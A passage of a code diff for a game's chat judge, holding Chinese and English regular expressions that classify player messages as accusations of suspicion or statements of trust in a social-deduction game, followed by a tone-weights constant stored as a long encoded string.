reb\b|(?<!没|没有|不)(?:不对劲|可疑|有问题|有鬼|嫌疑)|装.?忠|伪忠|跳反|反水|藏着|演技|别装(?!哑|死|聋|睡)|在(?:演|装(?!修)|藏|撒谎|骗|说谎|划水|带节奏)|装(?:什么|得|的|好人)|戏精|演员|两面派|墙头草|不像(?:好人|忠)|同[伙夥]|一[伙夥]的?|一边的|一队的?|穿一条裤子|串通|勾结|狼狈为奸|互相(?:帮|保|包庇)|包庇|心虚|狐狸尾巴|露馅|露出马脚|居心叵测|不怀好意|信不过|不可信|不能信|别信他|骗子|撒谎|说谎|在骗|(?<=(?:他|她|你|号|公|就|肯定|绝对|一定)是?)(?:敌人|坏|对面的)|\b(?:sus|suspicious|fishy|shady|faking|fake|liar|lying|lies|guilty|up to something|can't be trusted|cannot be trusted|don't trust|dont trust|teammates?|working together|in cahoots|same team|together on this|enemy|hiding something|acting)\b/;
 const TRUSTED2 = /我(?:来|先|都)?保(?:定)?(?:了(?=$|[,.!\s])|他|她|[一二三四五六七八九\d]+号)(?!一命)|可信(?!吗)|信得过|靠得住|靠谱|没(?:有)?(?:问题|嫌疑)|干净(?!利)|清白|认(?:死|定|准)(?:他|她).{0,2}忠|(?<!不)(?:是|都是|当|像)(?:自己人|好人|友军|一边的|我们的?人)|自己人|不(?:可疑|像反|像内|像坏)|(?:我|大家|你们)(?:都)?(?:相)?信(?=(?:他|她|[一二三四五六七八九\d]+号|主公))|冤枉(?:他|她|人|了?[一二三四五六七八九\d]+号)|(?:他|她|号)(?:是)?(?:冤枉|无辜|被冤)|替.{1,4}(?:说句|担保|作证)|(?:我)?担保|\b(?:i trust (?!you)|trustworthy|innocent|(?:is|are|'s) (?:clean|clear|fine|legit|good|ok|okay|safe|on our side|with us|one of us)|not (?:suspicious|guilty|sus)|vouch|can be trusted|leave (?:him|her|them) alone)\b/;
 const LOYAL_ALONE = /^(?:我)?(?:就|真)?是?个?(?:最?纯的?|真|铁|正经|妥妥的?|明|大)?忠(?:臣)?$/;
 const PROVES_NOT = /不等于|不代表|不(?:能)?(?:说明|证明)|\b(?:doesn't|does not) (?:mean|make|prove)\b/;
@@ -20666,7 +20670,7 @@ const WEIGHTS3 = "#_}Yg.LPEck0r5O'dX|Gt2i4cI'O2.68>IhxZW9SNQtX^>z7;uo6EJ&.wr0v3O
 // src/chatter/judge/tone-weights.ts
 const UNIT2 = 0.25;
 const BIAS3 = [-0.25, 0.25];
-const WEIGHTS4 = "$GSb.j9jpdf'^D~TyEV?7I;]O{C3Czr+PMD}2wPA2%'z<':~-'-2=Q&ucoA+xU(`D/uBq>Qxnf%LFIh$B=Cp9eg3Nsp_G2bLB7/=Y9H8K6;<N7wf,0H3bW`O;Y,OTGvs/w){D4<rh?_w~aD/*j|N9vXajMuq-]QE?UPWhIUXNZ]^O)cEda@$-0/uMjpTD+1x>iNIMVp:b9@yzX+O+='A3dKk)''rd|<U9x8Y$bP/~M_Y[pzfNTtS7q#oZ4`hF(]sl@n@LW17a@2&=L5k?*I1hk,=+fE~L[<BP[hIN-`egh0NgFJJB*M01`99ol$RQtU~nl6sU)M,<ABxK=t8[Ujan:MRFfdTB}8?-TN4d@0Zi9#k:U5w;$(ykiUV4:u_:eO9)9+PS>{XIUEj3z-n&,<Z*3K@5i@t7#u=+Pu29H*V?a`GmD8t/JH1G/R<X0't>0upH[AowmAm-0Rn|mbg&Q^-T}aw~;[U?Euh/m]Z*%4wsT-.u6UlD(P4{~7RjVw_<W'{L98@Sw+/;AG'el*mBCRnA8@w0{Yva6&zQb@o'G^fz`RNrY+I3;|LE-<8uHg_IT[?}G%zk.G9ey`E7[&ks&B>aIP>6>tQFlL<vXA3(NWy,WTYX0~Niq3SX@KKBb^|y^Lo|aTH>yUT+S5;Mjla9YlDb`x&&Q7JId(.>oBYfR}JM+u9^b%[?b%c(+=[$BI@6xjRy;f&uE5g@Aba~(nO<ms_vdtL)qn&T$F77}w[.=5|o74|#ow)Qt~9z~:-*}.+m>iX28@u,8GyG7CQj{I-29o9Yji?:7DB%Z4lFjVGd=mIy:sJIljH>G02E'12|L2[g@s3jwV{UOvg)Kz8>vvnu;w_QO.M[qqQ#B*}ABtKW]X6CxMmr@vv&64xy[V/';_>UG1nxPdky@_B&tU{xf3C.t4i6ebZzy$8~?,2IO'$HQ@4FO_s6UKQ6%5z?[@vFzGe9X6tx-yl4MM&>)sxc@q#*x?M_oPnN6DeZzzypg:V%SFspR%JXWwJiN{p+FB*a7-?`~.KJ?3X[R-|/`yz(])z@POlni%EY'4:*x#$d5#oWvjkbYZI18xdL4<}bEq}Z3J<|A[VU~7L_/dL$X4~A>MG.Mxrn0wtaJs|&-&?~yz^z],$(y|<94Tpt,xttBq=]-ns$Fbtxx2$v{ApYx]K(=oA$~$ChJ0_q|=45NXy?j?mBS=h=^Fh`Tm@R/8%?}%-uk#&b]fU=u(,w?YS;a/(7u1Q./^Li`4XFTZV3A0p<8*{T2mF,JN/L}-k+f(K_~tQ96[YIxU&|Ps,g^W]uwCcqX87jDbb*(Tm&*Oy}7V7/4uppj?#EL'(ZkMxz]{rG=]tD;;JVePdT^nsXRJ2'D*(F~6qz0%{Kp~OV?'uPe'j#wYY%N0o%5v|XSW;6kx`J>].gg%Pq:5T$??-AdMf{Y.6_p;%e<=M.]mWunMK3=*aA,/F:GAO~LcU08|zuxcK/x(RQu:uV:H7FUPGgipv=qb&<|.Hcs0{uRBPm@S7&4|og2^1U#$c]fEin4y+ss#oSH>?$fjCp^o94-2G=xT^A7]~B<jfeY>r5=hJcsKAUtct`|Fs,C|,h%)nJ'BTpVeHSI;w~C;MK}(X$6p(P]bAKT]n+%e|9Ub%.##@>%_J2En#SLZD8J#Mb95~ugXh*r``LoP@Hj6[f[(n#wQLnj|BAhRC1?IA`N{AGG,mD8#xDVJJX=I0A0h~-zp`CE6Ki/U85||l.}A6R;-7HWyMl3Nm`x^;_232OI)fkJ3[Z4d{bjG6U,?Rqh%6u|6(P3;>yK@b]6b]&YDe-)3(8(c2'+6tGzchkK#n&}X?r@edU#gJ6/=LbQCOC^Ro%Ripqmm&7S>rk0}(qUy~3dxTR&FBny+0VG$q#^@8Fkpl-eFgR[;:fxeB[2w3Y&nC>gA=,_1.xh9}GE?Ny7unLoOsRwm-9r|I7+(P&>7AYDGav^PTUxc@6k+w=myiQ*:-TCRWS*H9uv{m@h^P60w+7=`-iE&5Q{qu-Eb@rLr#y><U+VdTUt@#B8r?wXoWFo0>7|;fJaZ#WO+@~B:EwBp(rz#JH:)tzM?-OQt,ll6(sJ%F{kax2fXm+S5F'br.Vd5qd#x}P}WfH'0b?M}=nedY>0zah15P4q?>A?(mh-)Ba(4mS2M4&AQrr2)TJTl6v{:BG[Yjz85kXvNU.kPebid%:1i}vnl??v%-G0yb1}^BHzR2.XG++RDmz+_a.U4{37dT{6t<~IP3kosZ'Zs|GY:ke3i]{xf$OX9`:nO_d?~rCq~kfR];[75B;WgINw_%OF);8N1^:tXIUTL:H(V|%m6glKH6Z1X}wg4G9ETL<a`>|o/gEh[-y3rp?t'li&t1NhgF5<=9e(pLV)~dui%RI7`askR*?Q>)YGt'Xs_/l^G(K==`D{wb=|8~zH&Jpg{u/SHp_?/%g;S+CulRG`q=yRz~TDhT+;LQ;2%~G_Ylea9-G-H;]:3*-2KfZ,kU{4YP.-innTKwXnCqAS>&POHv@)z]dIiB-7.#nAB,tu4,NaqC'0<,j5$D8ppH/p)]poC<dh3^1&f@vm=zYh1_X~iG:F9]=*lluxP*Psz.aJ_xQ7mqQ?~{_%Ru3JH8<f^_}]xA9WMuz%<,W6IXope$C=07|#HZGz@f/b'z[fp=CXRH~7#W3LE=T;ge4/+o.*wDPBk:lCU<v$mK$4XI7v%`)#vC&dAamnr/b/#P}x3rW@W^Piq?~f{#?%b(0Wmt]aZ63~o>m6R<ollr#)?wIbsjbGio0m~DrQj$(m.>Xrr*X-qHN:iT?.X4P{Spd{zmuW@R8x>:eo-6C^j'f6GA&/(O${}1i|7n8z&v+AbXb@(>(pWB]qhQ.|mrr}g5-]J>*]hggeyJ-}TfO#fykBql#m@6U,Tz@4yDE2jH.t*%_?jn7+`-Nuv~D;x+&4OuGA8+,K)YH:&a}hUn=g?9OMGK<^ILtVLS`;z%30a9(=a_[skHZl0MuPrIMmskT{77]*K|^fdwk(d)YN=])-uzq'/S_-N/DPRE1/GQ;j45KmBG4,M+Af}b{nE}hc41.mR-dwBi^e5H*t}N^F-31dx.9:p6@O.>fFXd4Y`ae2`wf@zHfMq]ryyI-1O]AN;WDB%b0d9Iu,#X)jWwpsqOB>>3F*bQT(i+G-'hF.;<.8[jo@9|/R+>ENH5{Gc_c8p]/,)B]9=EqJGAkWa&iU)5>VF,LD,4}Y>d%F`J`DP*}L3;^(ouJcpe5-A}xQUg@T^l:ZV%<oAv5|m}~Mdsf?Z@>$t~,S^zmHmnJxRsZHhZB>J?2GmQiUqHD3$u'E*J1YC*gxAj*h4mj6t.PhDO~(M~FF4XnBI6cyExD[`z+Dz:}o$~ci)M]{RynS?/oeU58K7*o}?`9b}6PDt608>Iq}J*9H&i34mB~+(L$3p,j]e.cVt:&]>Gr0OOqY{PEBdkKbYaF9_7Gye;YF}2X`7Rp2k*51;UJc,)Q_%Hjcgc6UuND0<GS=e[vdhd.}Kedm,9+OmvN>}-W9_+xw?G&O=#w(oWv>yHBo`Hs=&J~V3S{Mt/8[4Bn^1?2B/lW8ZOD}BP~Fv3<}.)a(xh&)p'-dyV*S863q-*.98Z8bF3]=-NF3eeT@byOQ;rbfL=*kyOn_-C(9QAH@~-[B<[Xj%2LWN(a<:nDK=;9:QF/686d6gWc%Nou~F0PF9DL;k6Fj0AN~glgsOIs|/9J)F7v@FNOl|PY{ELK'L}SLexf^]JQ8XjowS|*m5=7O&hXu%pqg^e@)RkX^g9+vGdmPrxWk{lbv](WTPrw/~BP8J-/7Qt0x;:W~F_q[DvV6D;4YgI5K)pZ]S|dg1sDl&r8CL3m_tW]%WhKerJeaWM1U.l:P3Ps5oL`EZEl6+3uMy#vtDO`cYb|D<~-rq>ZpkQ3.>`tAM)a27Ds#=h>08VWsBcvKP]I2RqnL=;]s=MpTr=uo#YZHX)#7L2S`0FZ;]=+*-szo,ej;|ZO,u-9?L]35:,nk$?sjee(n;7@mejmywu0z$mq.,4(13Z,:LglK/`_pPWSOaMJ({<QNMc@kX;6(l/t{L{_2@Qoi/=ha`D=:d?}p,=Sboy91BKV0}A,~Xw<iK'4%T5J=D#<F3_VWv4zl{)ywjKVAw:jp|OSwL$NEYh9)t%K:]Do/eq)aY@Gv*|@Ct9f=vTVt?<qnG?PO?:o.{9PM&&@7,`+U$Z;`7)1U;UdiDW.MgH8In_00r?Z9m+|6tHwNF{nzuG<?'NXLW)5gC#6w9)c8fd#%y{Iv-x&`/1?w)m8fXyP*#B]&B)Q0p:A~Mf49t1pclNgWgWja`A1Z/q}ya}#tL-kJS_Ge[<)+vRx'?2pefe4CJrt.N(^H6aF=u#hI&u%AE-$)mVQo2n,qx$B@I_oSZbbTv`O>sxTzDiwPJt&Sl]6IqR=-)u@RAse52Z7+SS?}b&7b:,#Gg&|m;%v{=k_{O@Em<tHqddue.c3Hq6}Sq@<F^zKpwbYjrRxEb@(+S>6vCr'zNLK(&W#ja>URQ{o?wU1&O>Wr|I^.CsO74_hX{1b);ULUv7$~~QY$`8~RCZ|mqi||0}$4h:6g}fBb:O*d9iGSytqXM@rsoaqRbMM[U4a;9waX6N;dC/_8V+?HaT4,8W5[DdE%t$zS}JA^cqiqXt?p<ox5Tj86x=$$L+gYegNnq*]1r3hVO4KgmC([1fP`W1'-cO~]N+]]rEq7sy42#qYW9x#&?G,'sG-P_sMz2iY_Dz-i(+P1TGiU7_g`cWK9kXwUs|P-F%JXZu'-CM7@#VvB|uR'WqvQe]yw&$6U`.P-jnS4@9EhtD]RnyY@.ZUbz{0,++)FZ)k>/iMSF.YuP?Y{OvuCatR:3_^m,7Z8&hPL~0d#$RvojP8kpaAu[4I'6#[m.$3M]ILky?fwW;&}^gnn~RNEnUqM$CMti=~5c83.MNyR]>M*i%jky`fR^oJs#I97-Atp&)D7M'z6p'8IPhuCyMDo}yOe,?bIs@`9.;xgdws;y$;pOsqHXA0FAe=uN8v&`M48nE+B.d2'0J)*M2K(sf7I%)tHW_BIzk'=Hhtv>/atjp~Ee~ZmPaVN/r[m6(o&2G~3bAR9?UKkg;/J;DS8,Sj_1In@,pQ{oRK}9$2V.i9*^a381|/(bMC#[TzH$~B>+;[{QIU5Z9if:q7]yIDTdXSFF/.|q7aCEXodL9)mI'yh_7;+zeYhss|<4^mfE|oE<FxFGK(_&dwj/:t'Y4g~g7-Yf2CoP<s*v=SQ-pBG#.aPn`6p;:^Z=A1|ybm^z$~)OG2,V.6nt5Fbvo$>Cq{:hu,uy'nMm>fu_Ml<_=)Koy=kNiOVhMN~($Dmtfdnnp~iE_a9wgt/+20F>HrEL0;/y/Pwn2A?vsrC{bYxA`Al/=Ud81vGtT:`E2>;*L?ZS;Lf@TeDh;8RGmn2)C]DFo$K*0Peu3EeCcxXNh@tTre#^1n|`n/0u#`;}rg[kAj;Wqa{fm|h]nxzRu]#Yt$|B:<3M3(e5X6xa_7}Z@6QI650uwzr8Ccwq&q`@V]?xvj.c.#v8_&;x3Z}~B2BUHS#K$?;cq;urDf9:b#AKBHVW;}:H{%(?y$rwwZl+:OdQ8Rs*SA-@|PWg(Jo^P2chJuXP;V(:#4hRrt`aPz,&FT^9B<^xayW2.}8L%|Nwyt{#Ksr1H;fpUht7}gD3.5X&KLEZB6;*Pqf{B(([I]IZ{D<2@.r_C3'?vcC'pET7q#CXrORa/4U@}#Y|ITy|kF2`-~3({*@fC,nGfxSdAaAN5m]#&+Pjrc_RI4rCTD~Rn`IFjfCGC&4pQkfG/[z9%61tE9166)ZvuAm``/ShUGU)?%,iq91(`%z/zE>c+fF~pW$IFj{`X`MN|jHrN.&Ma0TTE40-`SGbDnf{4(W<*s-4zyg|(p6k#H|Hsv26Kk%~]H`T&NC~pqZ9Gt|&],1Ux'Dbu8%AH<<ay)qP*0/fdr-C$86AtP{{`|x$K#b7{}=DaZH0=S8a,jl8)$gUbh<HHihnb&7FgS_JI/uS]UsLv>qDr]iW<AUX4uc&gkB9wwLYW/s.k2pPvAyc-$TcPIuJ4b#7;ayI<z|2BI7R=TmB9nJB26u7JAYPdN}L=Gk]~@aW]7Ul6_Bs%v;&9>_@.S?OoY5*>T~F/a?GFkogA4B>JDP&zV4[{rQ^9NFX{?8Fl;`yR72;UoVp'@)dBYmgc<%[Or4?hg:9?UVB[x''40*&`ZrU:9;#K%k`=^tKTKYa1$9t#M;aV;|$t%b@;.f4<FVw>gyhT4r8aA@%;/1wZZ#3C67]V;^{Kl[%4f%FlgQCt?zTO/V<Nr`2ysjqu{kR:#'U{K7j,_1U-D48#o=6YA';J3v?r.E'OVjx=j<e~|/*jOJmC@Zs5pGzhMis1xwB(.h28UWd_r>&b[uN]:]IM*8)`4?9(8sn)KHt~bOgk8S`e;F4Q[/f:S/RV#xNV4#3`MyJO0tm&yi}<o%%ws2t{=%|uGfM?94)GVcf2K9:8@$>_ZE&{^Y|'1>6v*B}NZ$gRB>Fad'_m<cR8NVP%+9lqlX4Ku7#n]skWEr^j4MG8,P&8j#iqhf,hR+-@.f[Z*n^&x8$Ns25BdP)myb+'^y#}?6O&ft[*D$6?}ID8?WcjTxX_hL'`b:FmAD_nq<`}+Tm'aKb{Vd}p>Pe;3-Qgv:{+f<'[6r(iz?qoGEvh-9Fl@EaLgw0A2`4t>K./Zv+V$f<uYo4UVj34D0O.M;>fO4$w&|4gyz7Iq#<,.q1('E~m_.G,D|c5aHMl}^tQqq',iINf+Xef/S<_fdF$0;?F;kB0@p:;aKg[<;0wJIBmth894Gele2-{#T'yVt68OHG;W)|*OEXQF_a&?oo%]K$yzL3H[yZU]6KF(qo>_1kv2m(LD(hKMM4vH,dzc}<SN2$/5)?^2TsBYl~/^#@&~9V.0v$6I5~(/.z%O(idpby%~1JK5Vsp(aRqqD5^f(K#mbW|r'$T7T4ZJlQ+gT8Z/s'r,d:2947|H%YZqfhq_f[Xyle]]XHB8C%y94y>{nf[$#)U&x-~XYqARJi>aoE0>~(+wq[E&c~(lO3G#_Z6Bj~:A6PgyZ<SxT7@tmn.O0y%-O`o9fr^okaj,TP}ophK$ajjNvOot@cWpcpfs_}bA}Wq7i:J|qJJ$6,jhtbA*u$QUoqa5%(fXfg*7cLW(35^3.`Kw&>=:EL5c6Rx2Qv3,u1;8MCh&[OjuE,0#NX:0[`w.3e:|t(;~(qyi&u|,~61.YCOX:spkiNeWYfZl`+swDr6y1YFjW+3y<J[tlXY0_q40C<5W.GzXi?`3[P6T^[uF~gAZNg<I47c,#Dn{&wMRALT0.n8W6/I'nm@1CYw1^M|VCzP9a&Vs|?#zX7I^onx[h6,>}x]~2xIux8Qy>|u95)|PtNW&+g&;caV{7e2j]O;tDN7{*74i$~-*r~)B6I1=0tqzXmPuFz1yh+3Yj0BM1,Cd;QxX%n,.KY?+GJp#+(?g?qA?nePR_Eq>OVqM%GG9o<a/ASO56-6-00S5{u,``[RTpM5n,svaK79:herQsowXim%HRhE)CFA)oPeWC:;dV(eU6aA;Dv[o5V4]8QCBcT[:7eql(AQ]pO10,F;*lb,2$:L<Zvo$#yByBD/^QDvN|vtvL:Zt5&YcmC47DVxuENHH>AQ'L)n-*es5sl1j|s/sC&F0dKhSH[z3.XS/=rdb<@hC*+>'nT@/uko**a5wC:LU5Gr#7[ilsKth;W*u;BVp`$N&Pc$D/R)DURi=Dk.+,F$Dr(7=bbpY])3I%OSD.f3R[LHS/Di}0d7duvzCSc7)<?fnRBplF3P_ozDIE`'R4jv|Tqip,wjwnH`NNB@s=6ou#Z5O3;jeoJk_/x/w{$.wH?Ka1I%yQJQY:H:YUm,bta5SW(Xm{_#a,O6&H?~.=GaBL?vN4w+JUXK-l?*-VF|Xqj+V.D[x+s<{2<E}(|;Cbl#|48lxP/qRGtx|n?LhWtRv+t)$:S:2nClU@Zmz4SV_($SBUAc@goVBVU<aRo$YJ'LJ9JL(C2R|#)B:<w2<bH?xgIkSi]{zc'#J|;$S+w1k8_M$;ll~Z4KjFU]xT$z;-0TY8-x^%ROA:Hw4Rq%O2jA#/.okR1BjpeGepRok/By)C.;.z{<J.IT][rg:e-1sF]Bb/3Hw1+9Hg$S0@yd.BR^fdOIr~F7'oJbyAse.kll~ed.=(UxVila_/T_PlzH,&TY3K=Q+(5rE2.4gM$=csC/PG*+F>h0io(*/PKI8$@d=?adg+|/U#R.oOH(ypoe{MUq=TXcD*].6lFiuO,I7zAvH|K(hq{RB*wNlw^/CvJC~x?v?&r[=O'z+@.h=0YxeE&w>T=nag)D/=pn'#xNg.dB7fG7;Zt~TxXiLo6::|uGXYN7QzEEQYS`p[8=puENB~U%<$;axH{?^=@TkuPp)bx=p7XUqD&$d#kVYku]s[ZOT2fEGN;MR-F9AQJEatnp&uo3_)ov,#R0AwY$>E7rUwWEsM-*#o/{q'Lk2zg}[i@7uh'ajVX>c:g~|=[:F=fekw1%5(06C=C%8.R*&Z>Cek2&_s[s$-1VF[Ec%9`3S1vN]Z/Gg{}t:yuC(_aFwY_AdgN.1e+bsDIPD'>dZgI8ZUg3@o|]+$08jjzyaQvZXFRa>Z,<&Ul`8|aZCz-]m>P2;Cm44B$^r76sCOT#6&5%<(%@cmmVfr=wlHE._Sw%e>~.]`rG729aYu(DkF5/e}N*~|Gs0>|t?t%k+FZKwfh]Lg4h.jDnqi>Sl]/%.Tu)Bai@}0jNg:tGa,df:y*QC|Y(mt8I5MahXe17:#'}0Ie&2>KXW16L6Cb>&xDIv6380*3f$%h7qt5I=FNixB5fr*<Vesf%fr1l%X:l=i'`[#YJVNb`,D**By3GB)C1t~}[1T<{c0ziXFZs&[5+xuZNvdKDJ1L|k?@3`<j2`#jNGoD5PWl{$xI*e[zzL{OmBL:`}d[pAf^|VmT'Du*oJM5veJp&v.+2vOp%cxUJI%g&|6tgmt*{[,r&v}u'DNh~7[?7/KYY'x'I{vr5:K*Qj<d$^225PD1+d?<DUonFWlMG'QDiBHTn2vupsAZr/C1BAmxX_ZjE:E$fIyLa~{eue[Jd64TGQA/{rE;;LoR^MV|Cj:F%yrph&5T3F3C)Pnlp:tR[4g:wfazPOQy#mF(Rk6sTy8,Y*)aACULH^jG1n:N94z$c2VX8Zd;kFZ9MQpqho4Itg((Jp:~7N<=_>`]~W+VD[1e=nc`X>kcOacvid{GrpHJ_tm[T-ymH0VyKZE;@MGx55S7INh:M1a[wo'_Z>c)%7[q&=->12D0[~O]N`(jaM-W|)(WNpDV_b^Ga7X/cq^_Sce`xh>1z5b~59M7|BNu&~{m;&nc$>ym%yH`D29f<cPow#R;IMxt=beq?h|%{OvgyzK}[p1>;M_2YSpI[utEOpXZ*,i(dfM8]lz*w)(Tfk|V|:F%EEm:JGoqUP+JX-Yb9k+#031D9aBDZ;8y:}'%W@c1?`u)zCi&]ZK_=Ewn(ucZ%7^O77QL;gNp<D;n2WRp@RytJw]01{#>~``Mo87)*Ylx?&jf?Vu0,C4__C:+uNo>a(_R97PT[vB6GxV>d=t:13wA@Z7yZwp?0O|6*CVeN.7>q1|IlSwt6n*m=OMkw>FsV6B.-=u0o&nNyaJs,Yy1hK.P#.~BJe:1i4B<vNb6_Q:[>|Hhbs,gHEqHAxi211d:.u%}a@G4jnO'=84)LtnP,@/xb48Y[2}J~otA4)F1^[;b]EJ;w9VQkwmWG=z,`;Yx@dL_h0BZJO8uI~YfF^=j8>]L;&WUU3ak>6FtF'o?R/(UFQ9dX=1wG+$<5UUeuL}{Y:&[6eLru$Ws(X$pu;kUlg,7J`jK4b%IU3,Etq5Nu^??s](=gqy|z)m1$LbH[PF$I3(@<IiJCSO~+DG8k|.J?K](gqpw:cl.S_IFFyU6>p0mqp&TkE/gM`mdr/aw*~EOZF<7iXO_H[g#[DBfu7-ZySIeh]mR.OSicC:slju,;K-%u[>X6/+M9Na]E}rPGEf$H7'_tJo0TS2]uRR{#_XJub#$m+gi7h]e9to@NY/QzaXB>'PVV~jw[exJx5idgEl?zGII|]ME^9`(>D(%*$yM`N%H:*v0[X36;mt{2;TKhu9^`v3EMSqAv,n6gjpoR5ZU|O.Pp`2UVNAZKJ$ir3aBG(Mm_cSl1u%&(u.C^1*of:,6Va3N~FK$UXv3m,00#L1sh}]yb<IEOc^>1RK3#}g'Cr76Ho*b1*S9kB;hESJrEcQ+vcyq/Az7O'n5M=}eRs/k{v=Xi[2Odl.(nnGdZL2m$O,'bQd'.e%*ukTiOG.#lMM}v~;yR@M6uVKseI+7NLJ;r@#lF.S^iC)bPD&jqR]m-2gm6^Wj}=wV~FIwh9Igff+xK#%QY'|Vc|<<sw)>(33j5vs]eOs<]-|T=|T6k~xS'eEP1qW3XD]lg-GcsR9Cgkn/C?8%(~[HHNBf7%|i/Z9=kBESoWo>}7Jx]rQ8aI`'dpX^IKUb.T=Uu'/__`R>tTzSjS>mP_63A$g@;s*v#svz1WR,NEmY1sd9mh*?N?f?C[Kax1_0EG~*`d*c=qP;wx4J-hAJ|F=e(>-:zTm]^d}WH.dz~2ttk[(rD8m6^[bm)Yn%eKR+8xn)}0c=wwx_t{JI%v&1Q^Sd(Q$?f6_#^PiiC5+|fDm{:Pw7DS2_$<)(0y,MQ|+cSb8ql.r('mh%28UB7s|}Y;xE6IOOQTy-[[%N=lH23*t)_TI5q}fjNP9.ADtz~<sO1i`6%Jo=LC%a&1Uhou=l#0I{;'z=jCHQl}<&B$9Y{[Girj*9aH%Ze?#i/khe`?(?RS6>_jcn]in{af;<'`'aCRwJ^qi:>YSO5Cv#uQsv{+~1829$(B,8aB5A3Uk~;Wasc+SiBL&,5&e$%DbaYh`It~c-:SsxTYm79fb{oSiX%DNvSX{N72t1+mX]B1tr>L8r,Uqf?c_2Jw.`:CgHo&b,.M)OKpN>dIq)Z.ShY~aW`FQ6EX-Q`>>|Q#'vwsT;2q>Ly'GHWngs#4h#e).a>@PqY9I2w*d>';M>4Z`NIgu6XlE9p$M#fU}%L@^{%#$1h2ZRBkH.i%KosKi>`/Ns#]ioZ6FNNG:q+dSk{9'$r|Dn%epjFZPqj$PY[@*p~.iKfo~>Nrs[.jFg^OhuED]>mAod3HfLgVtkd/~?Hbf|yP,}I@OII$dZv;tD9$@]@,;J:xBm4<b}P;y,i8gC7{CF/Ba{gOm9K#V}ef&;+W$)D.@?X+U+_FUgBH?u6K9MTlNvec0wv1o4GQ]@(M'`))N,QvT4dHAWfxy+fx`~X#@4O[7x3]1aad4sypMcQAbpgwnA=`EOZp(k%GaC/679Q3D0e2msvep`@k]IK_e.NA]n9zv&R/o%^G|=S'3DIY,o034^W?R'JlV}me6Al%YyKNJH/yNyI:GIz;pX5|[-1E$~p[DX1KE9bsjtldc_(Ew@WzX4lG%/Jv=W~`|w(@|@]soWs~Ndy;AQC]H=7|z;{pdLJ2fUE{:&u&M8ftQ@14.vL*al[byRJq(VuqPq__.)$%Oc2b425yoDLB/Q<=XrcLNmS7CA@z4Cd]w@BqH5PZq(/ZrzK?zZ2VZJ+(WV*1b&9&*JE&gE%`,E5Dcfp-u;$+4@<2lp}'Imp~6%7;[p(,JgZ[>Ks-EuFwIE~:=b5q{K>AY#%<S<(dB0X/^X>Ui2x%1h9=<Q5]~CwS%$Jdqxw,/mG9ZJq~05y;O-R[f[yocWybgFHhsx95?FBUN~vDEowdW@}CW6g5[S=9T[)(J%0_eQKRc+Lkq5v?s4F8CNoA}AJOs&]z{4%ix2PgEvh.bm%{T/3;]8WdoLJiAJ=n$bY]fn)|Q/i9>ri048'BfUfTB6K3S|6^RGDQ-B/c;GEB7kt2gr<]cF`|M9cojk<.1UqaH$wv2yYi@/?FH=:meQRY~lIU|0P0<UQUd67y%dkSnojL_A(f<-EIg3`bQ7I[Ib(@y6LQp]a6+vVq(nVkt1u3:7Lbs|oar5cO0(-(I1i=WE)%lBi,Ba+zI*CT/vDHG$^r[zL-4cMN[.d'dPEgGUKl9~R7Gzz(}o&t~~>r70Zq^%`uzHtgSiZIF=v~WH~]Vx:%7VYP{gz~aLX%]VGd}6Eo`mmgiRnLX?;]q:`&|Devtgdy)R3lF}jK}stzL?Nzpo~.,)GN?HaB_wmx2$KmD_YGB/Sy/X}7nR%A24m:lEMKH)Dzwn.#~D(_*{;QoCEL79{sOACz#-)_VF*Hqx@t7Hu749?<hC}yx*y0-7`zA*?#YQBo_fawv$@P?~8EtHQD7P%pcAPfmAA>0*W^uC4g]YJ([J}caOxKEV#[_HbOWPM/FVCYEu`P<}Uap1.[A'TP?}k)$uYA4K}J:_zR+oD^BGH:_Fk-k5DplF|AVFsY^j2(AQ{jTz(kv:kk'RITy~@acgEi^:@P3[j%*<ZFY5Uw'mfre^9`|Xvl$:O+?]Ry|5'$=Q,E|:DR8jdZ9A'KE1&eGfl`v=#_u@+.XpuJ'ND[4{1)5lbmN>b}ZJR)cFZNDrdsfnM}bMW(}_6G`U1PpBz]}fH?RJL<UmVp_+B1~~oj*c0rwe7[`k7Ef[fD]_NNIhgaB2Mh2'lZ~g=xHGJ*|7@6G,_>hG[^7y%yWn]8rc@&jx{?QJTvD{$DFF/kiJ.w%>L02BU|P,`7>}lt}l?#2Q:8ApRlC5$jJ=[dsQ*8GV%,n7)Ffdx4ftFw>T[qbUI}*66On[#XiD<_dM;GPv^7|`u.P]/z(qzj&T$ew(AD@U/hR/2S#>#{>vp$8]Lk|<+Rgd4@'7Wpw')6du=d1K*y;3nw[{Fs2]o;+-K4#OQVLX:q7&`dSt5Tqei/ffs^J{j)b)fcoGXq@&I_&9f><se<TC.o1d,#_m)bfrF;Rzi%],5W8c)_qnB-LUi>Jp0TfN,^`lVD^H9s*-[(l.QCGL|2rj-1kKVK%hZE@L6NT#QYg65:3Q2l}D6J|Et4<7ckj6xmJWILG$t8~mL&xgO;6-j4*F~MDZt81#'{M.q7|dzLyo<IT3PG2k3)pHN*~_>~R$8bL(zqv=qk04sTkFdU4xmI>T-#`|7Y]Zq%p@C||)<F7Mj>yLB8Y%c|IYj<Q6fa/.$/<pJk@[ppZkB/oBu)nG,B,4^5>=&nQDsIVoEA%>]]x/jD(PX~OF,}z*.ICmtjK&i$QL9H0&f[u_u&xviWm5kFK]*[^]PWE@B`e-txllhf7-oM.Q;bx;cRTZBs/AodZ.m]&6,[6C[3ZmHz7f-H*P+DnsTbM$CaacbE|_GXxfhHb3gK>dwsUB+(>FwzCvukwmbxa]Vz7BKeLfaGA7Z3w9o2J*5L7mw@&|uw6K1RY];+1:m/Z>MANCQ>]'o3.^MnBCqDe`CF,bL%|A/m5m9v$)opxtdg+[kP9l[Q/QG*-rIx6y%_b9oU%Avwv?2([BNJ]A*ECs=4mwg~mb'[OI[KVQ$;kul86A:[`g'WrdVZ/$B`n</P-w)dA2_:RWm1$&Jh]0fXqo0JP4jtrStRZCYz%Z?OK27&}N2d73&xt3K'&ZCZR2Raen1E(:Ae(9<.l&-]8{kQ~E-|mP926y|{ljOG@ARUyH1aUeLb/<4oAp+_a$cFQyD>2nK.IHmnPT4LC'`4B>)yWw2=M.[0T#;uB^)&S%6sl&EX90gXvJo~~b}8wfox,1./0tJl~&U|lqv0r%h)q4hm[+J^GlRDiB*v[LZ|}O]Ex{^0Tw$+W?S-Q=t(,4/G>aFisQ7H@#Lf'6%{_kz<a>p`oI;Z)/-KLm8+C=:3xR6PM+LV]6@b4=AoIHzTl6RTxyXh*P_~m>['ZT/e>Ko*di1X-7[@=-+@q.-'tlBt<c.w*893J(Iyu$J:n=@&p9GT:@%uyJWQ:i,~7cnAD@)%C29m-/[~OpvD|zn`)DHNJp-fe;>ijUM7W[2_